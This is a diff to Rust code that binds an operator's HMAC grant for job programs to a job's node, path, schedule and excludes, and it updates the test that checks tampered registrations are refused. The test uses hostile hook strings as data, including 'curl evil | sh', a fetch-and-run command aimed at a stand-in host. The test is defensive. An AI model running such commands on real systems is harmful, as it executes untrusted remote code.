@@ -73,19 +73,20 @@ impl JobSpec {
         *self == JobSpec::default()
     }
 
-    /// The MAC of this spec (its grant left out) for job (node, path).
-    fn mac(&self, token: &str, node: &str, path: &str) -> hmac::Hmac<sha2::Sha256> {
+    /// The MAC of this spec (its grant left out) for `job`.
+    fn mac(&self, token: &str, job: &Job) -> hmac::Hmac<sha2::Sha256> {
         let bare = JobSpec { grant: None, ..self.clone() };
-        crate::net::wire::operator_mac(token, &crate::net::wire::encode(&("register", node, path, &bare)))
+        let signed = ("register", job.node, job.path, job.every_min, job.excludes, &bare);
+        crate::net::wire::operator_mac(token, &crate::net::wire::encode(&signed))
     }
 
-    /// This spec with the operator's grant for job (node, path), when it
-    /// runs programs and the registering node has a `token`.
-    pub fn granted(mut self, token: Option<&str>, node: &str, path: &str) -> Self {
+    /// This spec with the operator's grant for `job`, when it runs
+    /// programs and the registering node has a `token`.
+    pub fn granted(mut self, token: Option<&str>, job: &Job) -> Self {
         use hmac::Mac;
         self.grant = None;
         if let Some(t) = token.filter(|_| !self.programs().is_empty()) {
-            self.grant = Some(self.mac(t, node, path).finalize().into_bytes().to_vec().into());
+            self.grant = Some(self.mac(t, job).finalize().into_bytes().to_vec().into());
         }
         self
     }
@@ -190,6 +191,17 @@ pub fn check_programs(spec: &JobSpec, allowed: bool) -> Result<(), String> {
     ))
 }
 
+/// What a registration's grant covers besides the spec: the job's node,
+/// path, schedule and excludes (so a grant cannot be moved to another job
+/// or make the operator's command run more often).
+#[derive(Clone, Copy, Debug)]
+pub struct Job<'a> {
+    pub node: &'a str,
+    pub path: &'a str,
+    pub every_min: u64,
+    pub excludes: &'a [String],
+}
+
 /// What programs this node runs for jobs, as its operator decided: none
 /// without `--allow-programs`; with it, and with an API token, only those
 /// of jobs registered under that token's grant (a registration may come
@@ -201,12 +213,12 @@ pub struct Programs {
 }
 
 impl Programs {
-    /// Whether job (node, path) may run the programs of `spec` here.
-    pub fn check(&self, node: &str, path: &str, spec: &JobSpec) -> Result<(), String> {
+    /// Whether `job` may run the programs of `spec` here.
+    pub fn check(&self, job: &Job, spec: &JobSpec) -> Result<(), String> {
         use hmac::Mac;
         check_programs(spec, self.allowed)?;
         let (Some(token), false) = (&self.token, spec.programs().is_empty()) else { return Ok(()) };
-        let granted = spec.grant.as_ref().is_some_and(|g| spec.mac(token, node, path).verify_slice(g).is_ok());
+        let granted = spec.grant.as_ref().is_some_and(|g| spec.mac(token, job).verify_slice(g).is_ok());
         if granted {
             return Ok(());
         }
@@ -619,32 +631,39 @@ mod tests {
     fn a_node_with_a_token_runs_programs_only_of_jobs_registered_under_its_grant() {
         let hooked = JobSpec { pre: Some("touch /tmp/pwned".into()), ..JobSpec::default() };
         let here = Programs { allowed: true, token: Some("adm".into()) };
+        let none: Vec<String> = Vec::new();
+        let tmp = vec!["*.tmp".to_string()];
+        let job = |node, path, every_min, excludes| Job { node, path, every_min, excludes };
+        let app = job("n2", "/srv/app", 60, &none);
         // Registered through a node with the same token: runs.
-        let granted = hooked.clone().granted(Some("adm"), "n2", "/srv/app");
+        let granted = hooked.clone().granted(Some("adm"), &app);
         assert!(granted.grant.is_some());
-        assert_eq!(here.check("n2", "/srv/app", &granted), Ok(()));
-        // Without a grant, under another token, for another job or node,
-        // or with the programs changed after the grant: refused, and said why.
+        assert_eq!(here.check(&app, &granted), Ok(()));
+        // Without a grant, under another token, for another job, node,
+        // schedule or excludes, or with the programs changed after the
+        // grant: refused, and said why.
         let altered = JobSpec { pre: Some("curl evil | sh".into()), ..granted.clone() };
         let refused = [
-            ("n2", "/srv/app", hooked.clone()),
-            ("n2", "/srv/app", hooked.clone().granted(Some("other"), "n2", "/srv/app")),
-            ("n2", "/srv/other", granted.clone()),
-            ("n3", "/srv/app", granted.clone()),
-            ("n2", "/srv/app", altered),
+            (app, hooked.clone()),
+            (app, hooked.clone().granted(Some("other"), &app)),
+            (job("n2", "/srv/other", 60, &none), granted.clone()),
+            (job("n3", "/srv/app", 60, &none), granted.clone()),
+            (job("n2", "/srv/app", 1, &none), granted.clone()),
+            (job("n2", "/srv/app", 60, &tmp), granted.clone()),
+            (app, altered),
         ];
-        for (node, path, spec) in refused {
-            let e = here.check(node, path, &spec).unwrap_err();
+        for (j, spec) in refused {
+            let e = here.check(&j, &spec).unwrap_err();
             assert!(e.contains("operator's credential") && e.contains("--token"), "{e}");
         }
         // A node without a token trusts the mesh; one without
         // --allow-programs runs none, grant or not.
-        assert!(Programs { allowed: true, token: None }.check("n2", "/srv/app", &hooked).is_ok());
-        let e = Programs { allowed: false, token: Some("adm".into()) }.check("n2", "/srv/app", &granted).unwrap_err();
+        assert!(Programs { allowed: true, token: None }.check(&app, &hooked).is_ok());
+        let e = Programs { allowed: false, token: Some("adm".into()) }.check(&app, &granted).unwrap_err();
         assert!(e.contains("--allow-programs"), "{e}");
         // A directory job needs no grant, and gets none.
-        let dir_job = JobSpec::default().granted(Some("adm"), "n2", "/srv/app");
+        let dir_job = JobSpec::default().granted(Some("adm"), &app);
         assert!(dir_job.grant.is_none());
-        assert!(here.check("n2", "/srv/app", &dir_job).is_ok());
+        assert!(here.check(&app, &dir_job).is_ok());
     }
 }
